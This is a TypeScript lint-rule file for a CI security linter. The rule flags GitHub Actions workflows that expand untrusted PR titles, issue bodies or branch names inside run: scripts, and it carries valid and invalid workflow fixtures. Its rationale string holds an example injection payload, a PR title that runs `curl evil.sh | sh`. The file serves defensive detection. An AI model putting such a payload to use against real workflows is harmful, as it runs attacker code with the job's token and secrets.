// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${{ }} is GitHub Actions expression syntax, not a JS template
import { UNTRUSTED_INPUTS } from "../../catalog/github-actions.js";
import type { ContextRef } from "../../model/workflow.js";
import { dedent } from "../../util/dedent.js";
import { defineRule } from "../types.js";
import { reportExpression, WORKFLOW_LINKS, wf, wfInvalid } from "./_util.js";

const PATTERNS = UNTRUSTED_INPUTS.map((p) => p.split("."));

/** The untrusted input a reference reads, if any. */
export function untrustedInput(ref: ContextRef): string | undefined {
  const segs = [ref.root, ...ref.path];
  for (const p of PATTERNS) {
    if (p.length !== segs.length) continue;
    if (p.every((s, i) => s === "*" || s === segs[i] || segs[i] === "*")) return segs.join(".");
  }
  return undefined;
}

export default defineRule({
  id: "ci/script-injection",
  category: "ci",
  severity: "error",
  sources: [{ tool: "zizmor", check: "template-injection" }],
  summary: "An attacker-controlled value (PR title, issue body, branch name, commit message) is expanded inside `run:`",
  rationale:
    '`${{ }}` is substituted into the script text before the shell runs it, so a pull request titled `a"; curl evil.sh | sh; echo "` or a branch named `$(…)` runs its own commands in the job, with its token and secrets — on a self-hosted GPU runner, on your machine. Titles, bodies, comments, commit messages, author names and head branch names are all chosen by whoever opens the PR or issue.',
  remediation:
    'Pass the value through an environment variable and quote it in the shell: `env: { TITLE: ${{ github.event.pull_request.title }} }` then `echo "$TITLE"`. For actions/github-script, read it from `context` instead of templating the script.',
  links: [WORKFLOW_LINKS.injection, WORKFLOW_LINKS.actionlint],
  examples: {
    valid: [
      wf(
        "the title goes through env",
        dedent`
          on: pull_request
          permissions: {}
          jobs:
            a:
              runs-on: ubuntu-latest
              steps:
                - env:
                    TITLE: \${{ github.event.pull_request.title }}
                  run: echo "$TITLE"
                - if: contains(github.event.pull_request.title, '[gpu]')
                  run: echo \${{ contains(github.event.pull_request.body, 'x') }}
        `,
      ),
    ],
    invalid: [
      wfInvalid(
        "title and head branch inside run",
        dedent`
          on: pull_request
          jobs:
            a:
              runs-on: ubuntu-latest
              steps:
                - run: |
                    echo "\${{ github.event.pull_request.title }}"
                    git push origin HEAD:\${{ github.head_ref }}
        `,
        [
          { line: 7, column: 17, message: /github\.event\.pull_request\.title/ },
          { line: 8, column: 32, message: /github\.head_ref/ },
        ],
      ),
    ],
  },
  workflow(w, ctx) {
    for (const e of w.expressions) {
      const last = e.path[e.path.length - 1];
      const inRun = last === "run" && e.step !== undefined;
      const inScript =
        last === "script" &&
        e.path[e.path.length - 2] === "with" &&
        e.step !== undefined &&
        /^actions\/github-script@/i.test(e.step.uses ?? "");
      if (!inRun && !inScript) continue;
      const seen = new Set<string>();
      for (const r of e.parsed.refs) {
        if (r.inBooleanCall) continue;
        const input = untrustedInput(r);
        if (!input || seen.has(input)) continue;
        seen.add(input);
        reportExpression(
          ctx,
          w,
          e,
          `\${{ ${input} }} is expanded into the ${inRun ? "script" : "github-script code"}: whoever writes it can run commands here; pass it through env: and quote "$VAR"`,
        );
      }
    }
  },
});
